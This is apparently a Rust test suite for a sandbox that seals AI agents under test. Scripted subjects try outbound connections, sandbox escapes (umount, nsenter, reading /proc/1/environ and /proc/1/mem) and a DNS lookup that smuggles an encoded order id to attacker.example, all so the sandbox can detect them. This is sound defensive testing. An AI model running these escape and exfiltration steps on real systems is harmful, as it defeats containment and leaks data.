//! Sealed runs: the subject calls the real hosts, and can leave neither its network nor its files.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::process::Command;

use serde_json::Value;

use crate::kit::needs::{Test, tests};
use crate::kit::workspace::{Called, HAPAX, Workspace, charge, kinds, verdict};

pub(crate) fn tests() -> Vec<Test> {
    tests![
        the_real_host_of_a_service_is_the_service_and_takes_the_subjects_own_key,
        a_command_that_calls_a_real_host_needs_no_option,
        an_ordinary_user_can_run_sealed,
        every_other_host_is_recorded_with_its_port_and_an_address_without_a_name_too,
        every_connection_and_every_datagram_is_recorded_at_any_port_and_with_ipv6,
        what_stays_with_the_subject_or_is_ignored_leaves_no_finding,
        a_program_that_finds_its_own_address_and_connects_there_stays_with_itself,
        a_name_that_is_only_looked_up_is_recorded_and_fails_if_it_carries_data,
        a_tls_connection_that_never_says_hello_is_recorded,
        an_allowed_port_of_this_machine_is_reached_and_all_others_are_not,
        the_subject_sees_its_own_directories_and_nothing_of_hapax,
        what_the_subject_leaves_behind_ends_with_its_namespace,
        a_control_does_the_same_sealed_and_unsealed_also_when_it_is_killed,
        an_agent_over_http_that_hapax_starts_is_reached_in_its_network,
        requests_that_the_subject_did_not_wait_for_are_counted,
        requests_through_the_proxy_that_the_subject_did_not_wait_for_are_counted,
        an_agent_that_is_already_running_cannot_be_sealed,
        many_starts_leave_no_process_mount_socket_namespace_or_file,
    ]
}

/// `charge HOST PORT`: sends the charge of the task there over HTTP, and prints the answer.
const CHARGE: &str = r#"charge() {
  body='amount=4999&customer=cus_42&currency=usd&source=tok_visa&metadata[order]=ord_1001'
  exec 3<>"/dev/tcp/$1/$2" || return 1
  printf 'POST /v1/charges HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer any_key\r\nConnection: close\r\n' "$1" >&3
  printf 'Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %s\r\n\r\n%s' "${#body}" "$body" >&3
  cat <&3
  exec 3>&-
}
"#;

/// An agent over HTTP that does its task at the real host.
const HTTP_AGENT: &str = r#"use IO::Socket::INET;
my $listener = IO::Socket::INET->new(LocalAddr => '127.0.0.1', LocalPort => $ARGV[0], Listen => 5, ReuseAddr => 1)
  or die $!;
my $task = $listener->accept;
sysread $task, my $request, 65536;
my $body = 'amount=4999&customer=cus_42&currency=usd&source=tok_visa&metadata[order]=ord_1001';
my $stripe = IO::Socket::INET->new(PeerAddr => 'api.stripe.com', PeerPort => 80) or die $!;
print $stripe "POST /v1/charges HTTP/1.1\r\nHost: api.stripe.com\r\nAuthorization: Bearer any_key\r\n",
  "Connection: close\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ", length $body,
  "\r\n\r\n$body";
$stripe->flush;
my $answer = join '', <$stripe>;
die $answer unless $answer =~ /200 OK/;
my $claim = '{"outcome": "done"}';
print $task "HTTP/1.1 200 OK\r\nContent-Length: ", length $claim, "\r\nConnection: close\r\n\r\n$claim";
close $task;
sleep 60;
"#;

/// A subject that sends its charge over fifty connections and is gone before any reply.
const IMPATIENT_AGENT: &str = r#"use IO::Socket::INET;
my $body = 'amount=4999&customer=cus_42&currency=usd&source=tok_visa&metadata[order]=ord_1001';
my @open;
for (1 .. 50) {
  my $stripe = IO::Socket::INET->new(PeerAddr => 'api.stripe.com', PeerPort => 80) or die $!;
  syswrite $stripe, "POST /v1/charges HTTP/1.1\r\nHost: api.stripe.com\r\nAuthorization: Bearer any_key\r\n"
    . "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: " . length($body) . "\r\n\r\n$body";
  push @open, $stripe;
}
kill 'KILL', $$;
"#;

/// A subject that does its task at the real host and then something else.
fn agent(rest: &str) -> String {
    format!(
        "{CHARGE}charge api.stripe.com 80 | grep -q '200 OK' || exit 3\n{rest}\necho '{{\"outcome\": \"done\"}}'"
    )
}

/// Runs one charge sealed, with this script as the subject.
fn run(script: &str, options: &[&str], status: i32) -> (Workspace, Value) {
    let workspace = Workspace::new();
    workspace.write("scenarios/plain.yaml", &charge("")).write("agent.sh", script);
    let arguments = [&["run", "plain", "--sealed"], options, &["--", "bash", "agent.sh"]].concat();
    workspace.call(&arguments).expect(status);
    let report = workspace.report();
    (workspace, report)
}

/// What the subject printed.
fn output(report: &Value) -> &str {
    report["cases"][0]["trials"][0]["output"][0]["stdout"].as_str().unwrap()
}

async fn the_real_host_of_a_service_is_the_service_and_takes_the_subjects_own_key() {
    let (_, report) = run(&agent(""), &[], 0);
    assert_eq!(verdict(&report, "plain")["result"], "pass");
}

async fn a_command_that_calls_a_real_host_needs_no_option() {
    let workspace = Workspace::new();
    workspace.write("agent.sh", &format!("{CHARGE}charge api.stripe.com 80 >/dev/null"));
    let run = ["run", "payment/clean", "payment/lost-reply", "--", "bash", "agent.sh"];
    let called: Called = workspace.command(&run).env_remove("HAPAX_NO_SMOKE").output().unwrap().into();
    let called = called.expect(0);
    let words = called.stderr.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(words.contains("uses api.stripe.com (payment) does payment.charge"), "{}", called.stderr);
    let same = "hapax run --sealed --assume payment.idempotency=stripe --claim optional -- bash agent.sh";
    assert!(words.contains(same), "{}", called.stderr);
    let report = workspace.report();
    assert!(report["cases"].as_array().unwrap().len() > 5);
    assert!(
        report["skipped"][0]["why"].as_str().unwrap().contains("stripe is assumed"),
        "{}",
        report["skipped"]
    );
}

async fn an_ordinary_user_can_run_sealed() {
    let workspace = Workspace::new();
    let script = agent("test $(id -u) != 0 || exit 4");
    workspace.write("scenarios/plain.yaml", &charge("")).write("agent.sh", &script);
    let arguments = ["run", "plain", "--sealed", "--", "bash", "agent.sh"];
    let Some(mut hapax) = workspace.command_of_nobody(&arguments) else { return };
    Called::from(hapax.output().unwrap()).expect(0);
}

async fn every_other_host_is_recorded_with_its_port_and_an_address_without_a_name_too() {
    let rest = "(exec 4<>/dev/tcp/billing.example.com/443; cat <&4) 2>/dev/null\n\
                (exec 4<>/dev/tcp/93.184.216.34/80; cat <&4) 2>/dev/null\n\
                (exec 4<>/dev/tcp/93.184.216.34/8443) 2>/dev/null || echo refused";
    let (_, report) = run(&agent(rest), &[], 1);
    let verdict = verdict(&report, "plain");
    assert_eq!(kinds(verdict), ["escaped", "escaped", "escaped"], "{verdict:#}");
    assert_eq!(targets(verdict), ["93.184.216.34:80", "93.184.216.34:8443", "billing.example.com:443"]);
    assert!(output(&report).contains("refused"), "{}", output(&report));
}

/// What the findings of a verdict say that the subject tried to reach.
fn targets(verdict: &Value) -> Vec<String> {
    let messages =
        verdict["findings"].as_array().unwrap().iter().map(|finding| finding["message"].as_str().unwrap());
    let target = |message: &str| {
        let (_, rest) = message.split_once(" to reach ")?;
        Some(rest.split_once(", which")?.0.to_owned())
    };
    messages.map(|message| target(message).unwrap_or_else(|| panic!("{message}"))).collect()
}

/// The fields of the notes with this name in the ledger of the last run.
fn notes(workspace: &Workspace, name: &str) -> Vec<Value> {
    let lines = workspace.read("reports/latest/ledger.jsonl");
    let entries = lines.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
    entries.filter(|entry| entry["name"] == name).map(|entry| entry["fields"].clone()).collect()
}

async fn every_connection_and_every_datagram_is_recorded_at_any_port_and_with_ipv6() {
    let rest = "exec 2>/dev/null\n\
                tcp() { (exec 4<>\"/dev/tcp/$1/$2\" && cat <&4); }\n\
                tcp api.stripe.com 8443; tcp api.stripe.com 8080; tcp mail.example.com 2525\n\
                tcp 2001:db8::1 443; tcp 2001:db8::1 8443\n\
                echo told >/dev/udp/93.184.216.34/9999; echo told >/dev/udp/2001:db8::2/53\n\
                echo told >/dev/udp/statsd.example.com/8125";
    let (workspace, report) = run(&agent(rest), &[], 1);
    let expected = [
        "93.184.216.34:9999 over UDP",
        "[2001:db8::1]:443",
        "[2001:db8::1]:8443",
        "[2001:db8::2]:53 over UDP",
        "api.stripe.com:8080",
        "api.stripe.com:8443",
        "mail.example.com:2525",
        "statsd.example.com:8125 over UDP",
    ];
    let verdict = verdict(&report, "plain");
    let mut found = targets(verdict);
    found.sort();
    assert_eq!(found, expected, "{verdict:#}");
    assert_eq!(notes(&workspace, "escaped").len(), 8);
}

async fn what_stays_with_the_subject_or_is_ignored_leaves_no_finding() {
    let rest = "exec 2>/dev/null\n\
                tcp() { (exec 4<>\"/dev/tcp/$1/$2\"); }\n\
                tcp 127.0.0.1 9; tcp ::1 9; tcp localhost 8443; tcp \"$(uname -n)\" 9; tcp 0.0.0.0 9\n\
                echo told >/dev/udp/127.0.0.1/9; echo told >/dev/udp/::1/9; echo told >/dev/udp/127.9.9.9/53\n\
                tcp telemetry.example.com 4318; echo told >/dev/udp/telemetry.example.com/8125\n\
                tcp ::ffff:127.0.0.1 9";
    let (workspace, report) = run(&agent(rest), &["--ignore", "telemetry.example.com"], 0);
    assert_eq!(verdict(&report, "plain")["result"], "pass");
    let ignored: Vec<Value> =
        notes(&workspace, "ignored").into_iter().map(|note| note["port"].clone()).collect();
    assert_eq!(ignored, [4318, 8125]);
}

/// Finds the address of its machine as many programs do, and connects to a port of its own there.
const OWN_ADDRESS: &str = r#"use IO::Socket::INET;
my $way = IO::Socket::INET->new(PeerAddr => '8.8.8.8', PeerPort => 80, Proto => 'udp') or die $!;
my $listener = IO::Socket::INET->new(LocalAddr => '0.0.0.0', Listen => 5) or die $!;
my $own = IO::Socket::INET->new(PeerAddr => $way->sockhost, PeerPort => $listener->sockport) or die $!;
print $own "hello
";
$own->flush;
print "heard ", scalar readline $listener->accept;
"#;

async fn a_program_that_finds_its_own_address_and_connects_there_stays_with_itself() {
    let script = agent(&format!("perl -e \"$(cat <<'END'\n{OWN_ADDRESS}END\n)\""));
    let (_, report) = run(&script, &[], 0);
    assert!(output(&report).contains("heard hello"), "{}", output(&report));
}

async fn a_name_that_is_only_looked_up_is_recorded_and_fails_if_it_carries_data() {
    // As smtplib and others do before they connect.
    let plain = agent("getent hosts docs.example.com >/dev/null; getent hosts 192.0.2.7 >/dev/null; true");
    let (workspace, _) = run(&plain, &[], 0);
    let hosts: Vec<Value> =
        notes(&workspace, "looked-up").into_iter().map(|note| note["host"].clone()).collect();
    assert_eq!(hosts, ["7.2.0.192.in-addr.arpa", "docs.example.com"]);
    let script = agent("getent hosts 6f72645f31303031.attacker.example >/dev/null; true");
    let (_, report) = run(&script, &[], 1);
    let found = verdict(&report, "plain");
    assert_eq!(kinds(found), ["escaped"], "{found:#}");
    assert!(found["findings"].to_string().contains("6f72645f31303031.attacker.example"), "{found:#}");
    run(&script, &["--ignore", "*.attacker.example"], 0);
}

async fn a_tls_connection_that_never_says_hello_is_recorded() {
    // Each connection lasts until hapax closes it.
    let hello =
        |host: &str| format!("(exec 4<>/dev/tcp/{host}/443; printf '\\x16\\x03\\x01\\x02' >&4; cat <&4) &\n");
    let rest = hello("93.184.216.34") + &hello("api.stripe.com") + "wait";
    let (workspace, report) = run(&agent(&rest), &[], 1);
    assert_eq!(targets(verdict(&report, "plain")), ["93.184.216.34:443"]);
    let contacted = notes(&workspace, "contacted");
    assert_eq!(contacted.len(), 1, "{contacted:?}");
    assert_eq!((&contacted[0]["host"], &contacted[0]["port"]), (&"api.stripe.com".into(), &443.into()));
}

async fn an_allowed_port_of_this_machine_is_reached_and_all_others_are_not() {
    let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    let other = TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let other_port = other.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut line in listener.incoming().flatten() {
            let mut read = [0; 4];
            let _ = line.read_exact(&mut read);
            let _ = line.write_all(b"the database");
        }
    });
    let rest = format!(
        "exec 4<>/dev/tcp/127.0.0.1/{port}; printf 'ask\\n' >&4; cat <&4; echo\n\
         (exec 5<>/dev/tcp/127.0.0.1/{other_port}) 2>/dev/null && echo reached"
    );
    let (_, report) = run(&agent(&rest), &["--allow", &format!("127.0.0.1:{port}")], 0);
    assert!(output(&report).contains("the database"), "{}", output(&report));
    assert!(!output(&report).contains("reached"), "{}", output(&report));
}

async fn the_subject_sees_its_own_directories_and_nothing_of_hapax() {
    let script = agent(
        r#"ls "$HAPAX_STATE_DIR" "$HAPAX_SHARED_DIR" >/dev/null && echo own
echo "around: $(ls "$(dirname "$HAPAX_STATE_DIR")" | wc -l)"
echo "results: $(ls reports/*/ 2>/dev/null | wc -l)"
echo "sockets: $(ls /run | tr '\n' ' ')"
echo "processes: $(ls -d /proc/[0-9]* | wc -l)"
umount /run /proc /etc/hosts "$PWD/reports" 2>/dev/null && echo unmounted
umount -l /run 2>/dev/null && echo unmounted
nsenter -t 1 -n true 2>/dev/null && echo entered
cat /proc/1/environ /proc/1/mem 2>/dev/null && echo looked
echo "results: $(find reports -type f 2>/dev/null | wc -l)""#,
    );
    let (_, report) = run(&script, &[], 0);
    let lines: Vec<&str> = output(&report).lines().collect();
    // Its own directories, that of all callers and that of its claim are all that is beside its own.
    assert_eq!(lines[..4], ["own", "around: 3", "results: 0", "sockets: hapax "], "{lines:?}");
    let processes: usize = lines[4].strip_prefix("processes: ").unwrap().parse().unwrap();
    assert!(processes < 10, "{lines:?}");
    assert_eq!(lines[5..], ["results: 0", "{\"outcome\": \"done\"}"], "{lines:?}");
}

async fn what_the_subject_leaves_behind_ends_with_its_namespace() {
    // Nothing else on this machine sleeps for so long.
    let seconds = 1_000_000_000 + u64::from(std::process::id());
    let agent = agent(&format!("setsid sleep {seconds} & setsid sleep {seconds} & disown -a"));
    let (_, report) = run(&agent, &[], 3);
    assert_eq!(verdict(&report, "plain")["result"], "void");
    let sleep = format!("sleep\0{seconds}\0");
    let left = std::fs::read_dir("/proc").unwrap().flatten().filter(|process| {
        std::fs::read(process.path().join("cmdline")).is_ok_and(|command| command == sleep.as_bytes())
    });
    assert_eq!(left.count(), 0);
}

async fn a_control_does_the_same_sealed_and_unsealed_also_when_it_is_killed() {
    let workspace = Workspace::new();
    for subject in ["naive", "careful"] {
        let results = ["--sealed", "--claims=required"].map(|option| {
            workspace.call(&["run", "crash/killed-after-effect", option, "--subject", subject]);
            let report = workspace.report();
            let cases = report["cases"].as_array().unwrap().iter();
            let results = cases.map(|case| {
                let verdict = &case["trials"][0]["verdict"];
                let kinds: Vec<String> = kinds(verdict).into_iter().map(str::to_owned).collect();
                (case["id"].clone(), verdict["result"].clone(), kinds)
            });
            results.collect::<Vec<_>>()
        });
        assert!(!results[0].is_empty());
        assert_eq!(results[0], results[1], "{subject}");
    }
}

async fn an_agent_over_http_that_hapax_starts_is_reached_in_its_network() {
    let workspace = Workspace::new();
    workspace.write("scenarios/plain.yaml", &charge("")).write("agent.pl", HTTP_AGENT).write(
        "hapax.yaml",
        "subjects:\n  agent:\n    http: 'http://127.0.0.1:${port}/task'\n    command: perl agent.pl ${port}\n    \
         sealed: true\n",
    );
    workspace.call(&["run", "plain"]).expect(0);
}

async fn requests_that_the_subject_did_not_wait_for_are_counted() {
    let workspace = Workspace::new();
    workspace.write("scenarios/plain.yaml", &charge("")).write("agent.pl", IMPATIENT_AGENT);
    workspace.call(&["run", "plain", "--sealed", "--", "perl", "agent.pl"]).expect(1);
    let report = workspace.report();
    assert_eq!(verdict(&report, "plain")["attempts"][0]["made"], 50);
}

async fn requests_through_the_proxy_that_the_subject_did_not_wait_for_are_counted() {
    let workspace = Workspace::new();
    let agent = IMPATIENT_AGENT
        .replace(
            "PeerAddr => 'api.stripe.com', PeerPort => 80",
            "PeerAddr => $ENV{HTTP_PROXY} =~ s{^http://}{}r",
        )
        .replace("POST /v1", "POST http://api.stripe.com/v1");
    workspace.write("scenarios/plain.yaml", &charge("")).write("agent.pl", &agent);
    workspace.call(&["run", "plain", "--intercept", "--", "perl", "agent.pl"]).expect(1);
    assert_eq!(verdict(&workspace.report(), "plain")["attempts"][0]["made"], 50);
}

async fn an_agent_that_is_already_running_cannot_be_sealed() {
    let workspace = Workspace::new();
    workspace
        .write("scenarios/plain.yaml", &charge(""))
        .write("hapax.yaml", "subjects:\n  agent: {http: 'http://127.0.0.1:9/task', sealed: true}\n");
    let called = workspace.call(&["run", "plain"]).expect(2);
    assert!(called.stderr.contains("an agent that is already running cannot be sealed"), "{}", called.stderr);
}

/// Runs a command, in namespaces that nothing else is in, and prints before and after it what there is. Fewer
/// namespaces than the command makes can exist at once, so it fails where they are left behind. A mount
/// namespace that is left keeps its user namespace.
const COUNTED: &str = r#"for kind in user net pid ipc; do
  echo 30 >/proc/sys/user/max_${kind}_namespaces || exit 9
done
count() {
  processes=(/proc/[0-9]*)
  mapfile -t mounts </proc/self/mountinfo
  mapfile -t unix </proc/net/unix
  listening=$(grep -c ' 0A ' /proc/net/tcp)
  files=("$TMPDIR"/*)
  echo "${#processes[@]} ${#mounts[@]} ${#unix[@]} $listening ${#files[@]}"
}
count
"$@"
echo "status $?"
count
"#;

async fn many_starts_leave_no_process_mount_socket_namespace_or_file() {
    let workspace = Workspace::new();
    workspace.write("scenarios/plain.yaml", &charge("")).write("temporary/one", "");
    let unshare = ["--user", "--map-root-user", "--net", "--mount", "--pid", "--fork", "--mount-proc"];
    let hapax = [HAPAX, "run", "scenarios/plain.yaml", "--sealed", "--quiet", "--trials", "40", "--", "true"];
    let output = Command::new("unshare")
        .args([&unshare[..], &["bash", "-c", COUNTED, "bash"], &hapax].concat())
        .current_dir(workspace.path())
        .env("TMPDIR", workspace.path().join("temporary"))
        .env("HAPAX_NO_SMOKE", "1")
        .output()
        .unwrap();
    let called = Called::from(output).expect(0);
    let lines: Vec<&str> = called.stdout.lines().collect();
    let (before, after) = (lines[0], lines[lines.len() - 1]);
    assert!(lines.contains(&"status 1") && !called.stdout.contains("void"), "{}", called.stdout);
    assert_eq!(before, after);
}
